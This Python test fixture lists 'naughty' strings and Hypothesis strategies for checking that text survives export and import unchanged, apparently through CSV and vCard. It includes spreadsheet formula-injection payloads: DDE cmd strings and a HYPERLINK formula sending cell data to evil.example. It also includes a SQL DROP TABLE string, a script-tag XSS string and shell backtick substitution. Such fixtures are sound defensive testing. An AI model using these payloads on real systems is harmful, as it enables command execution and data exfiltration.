"""Texts that broke other programs: each has to leave and come back unchanged."""

from hypothesis import strategies as st

NAUGHTY = (
    "",
    " ",
    "  with spaces around  ",
    "NULL",
    "undefined",
    "0",
    "007",
    "1E+02",
    "1/2",
    "TRUE",
    "=1+1",
    "'=1+1",
    "''=1+1",
    "+1",
    "-1",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"tryk her")',
    "=cmd|' /C notepad'!'A1'",
    "  =1+1",
    "\t=1+1",
    "＝1+1",
    "a;=1+1",
    "a,=1+1",
    'a"=1+1',
    "a\n=1+1",
    "a\r=1+1",
    "a;'=1+1",
    "a\n- første\n- anden",
    "+4520123456",
    "'+4520123456",
    "+45 20 12 34 56",
    "+4520123456=1",
    "O'Brien",
    "'apostrof",
    'Sørensen, Mette; "Mette"',
    'say ""hello""',
    "line\nbreak",
    "line\r\nbreak",
    "line\rbreak",
    "tab\there",
    "back\\slash \\n \\, \\;",
    "BEGIN:VCARD",
    "END:VCARD\r\nBEGIN:VCARD",
    "<b>bold</b> &amp; <script>alert(1)</script>",
    "]]>",
    "_x0041_",
    "__x0041_",
    "http://example.com",
    "mailto:mette@example.com",
    "{{name}} {0} %s %n $HOME `ls`",
    "'; DROP TABLE calls; --",
    "æøåÆØÅéßǆİı",
    "Zalgo: ǫ̵̹̻̝̳͂̌̌͘!͖̬̰",
    "مرحبا שלום",
    "\u202ereversed\u202c",
    "zero\u200bwidth\u200d",
    "\ufeffmark",
    "family 👩‍👩‍👧‍👦 flag 🇩🇰",
    "\u2028line\u2029paragraph",
    "𝕿𝖍𝖊",
    "ﷺ" * 40,
    "long " * 2000,
    "=" * 40_000,
)

CONTROLS = ("nul\x00here", "\x01\x02\x1f\x7f", "bell\x07 escape\x1b[31m", "\x00=1")
"""What only formats with a way to write them bring back: not vCard."""

TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=60)
"""Anything a database column can hold."""

GUARDED_TEXT = st.text(st.sampled_from("=+-@＝ '\"\t\r\n;,a1\x00"), max_size=14)
"""Mostly signs that mean something to a spreadsheet."""
